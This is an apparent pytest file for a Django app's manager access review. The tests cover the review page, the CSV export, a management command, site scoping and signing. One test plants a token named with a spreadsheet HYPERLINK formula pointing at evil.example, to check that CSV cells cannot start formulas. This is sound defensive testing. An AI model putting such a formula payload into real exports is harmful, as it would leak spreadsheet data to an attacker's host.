"""Issue 12, access review: a page, a CSV and a command listing who holds the keys, who is
dormant, what expires, outside accounts and recent grants; a manager signs it. Scoped: a
manager reviews the accounts it manages, never another site's."""

import csv as csv_module
import datetime as dt
import io

import pytest
from django.contrib.auth.models import User
from django.core.management import call_command
from django.test import Client
from django.utils import timezone

from mes.models import AccessReview, AccountKind, AccountProfile
from mes.services.accounts import save_account, set_lifecycle
from tests.factories import make_token, make_user

pytestmark = pytest.mark.django_db


@pytest.fixture
def plant(p1, p2):
    boss = make_user("manager_p1", "manager", [p1], is_staff=True)
    vendor = make_user("vendor_p1", "maintenance", [p1])
    set_lifecycle(
        vendor,
        actor=boss,
        kind=AccountKind.VENDOR,
        expires_at=timezone.now() + dt.timedelta(days=10),
    )
    gone = make_user("consultant_p1", "planner", [p1])
    AccountProfile.objects.create(
        user=gone, kind=AccountKind.PROJECT, sponsor=boss, expires_at=timezone.now()
    )
    sleeper = make_user("sleeper_p1", "operator", [p1])
    make_token(vendor, expires_at=timezone.now() + dt.timedelta(days=3))
    other = make_user("vendor_p2", "maintenance", [p2])
    set_lifecycle(
        other, actor=None, kind=AccountKind.VENDOR, expires_at=timezone.now() + dt.timedelta(days=5)
    )
    save_account(sleeper, actor=boss, reason="moved to the night shift", sites=[p1])
    User.objects.filter(pk=sleeper.pk).update(date_joined=timezone.now() - dt.timedelta(days=60))
    browser = Client()
    browser.force_login(boss)
    return browser


def test_the_review_page_lists_what_a_manager_must_see_of_its_accounts(plant):
    page = plant.get("/access-review/").content.decode()
    for section, name in [
        ("privileged", "manager_p1"),
        ("dormant", "sleeper_p1"),
        ("expiring", "vendor_p1"),
        ("expiring", "consultant_p1"),
        ("tokens", "vendor_p1"),
        ("outside", "vendor_p1"),
        ("granted", "sleeper_p1"),
    ]:
        block = page.split(f'id="review-{section}"')[1].split("</section>")[0]
        assert name in block, (section, name)
    assert "vendor_p2" not in page  # another site's account


def test_the_csv_and_the_command_say_the_same(plant):
    csv = plant.get("/access-review/?format=csv")
    assert csv["Content-Type"].startswith("text/csv")
    lines = csv.content.decode().splitlines()
    assert lines[0] == "section,account,detail,when"
    assert any(line.startswith("expiring,consultant_p1,") for line in lines)
    out = io.StringIO()
    call_command("access_review", "--csv", stdout=out)
    assert any(line.startswith("outside,vendor_p2,") for line in out.getvalue().splitlines())
    out = io.StringIO()
    call_command("access_review", "--as", "manager_p1", stdout=out)
    assert "vendor_p1" in out.getvalue() and "vendor_p2" not in out.getvalue()


def test_a_manager_signs_a_review(plant):
    done = plant.post("/access-review/", {"revoked": "consultant_p1: project over", "notes": ""})
    assert done.status_code == 302
    signed = AccessReview.objects.get()
    assert signed.reviewer.username == "manager_p1" and "consultant_p1" in signed.revoked
    assert signed.accounts_seen >= 4
    assert signed.history.first().history_user.username == "manager_p1"
    assert "consultant_p1: project over" in plant.get("/access-review/").content.decode()


def test_only_managers_review(p1):
    operator = Client()
    operator.force_login(make_user("operator_p1", "operator", [p1]))
    assert operator.get("/access-review/").status_code == 403
    assert operator.post("/access-review/", {"revoked": "x"}).status_code == 403
    assert AccessReview.objects.count() == 0


def test_no_cell_of_the_csv_starts_a_formula(plant):
    """Hostile review: a token named ``=HYPERLINK(...)`` came out as a live formula."""
    vendor = User.objects.get(username="vendor_p1")
    make_token(
        vendor,
        name='=HYPERLINK("http://evil.example/?"&A1,"x")',
        expires_at=timezone.now() + dt.timedelta(days=2),
    )
    rows = list(csv_module.reader(io.StringIO(plant.get("/access-review/?format=csv").text)))
    named = [cell for row in rows for cell in row if "HYPERLINK" in cell]
    assert named  # listed, as text
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
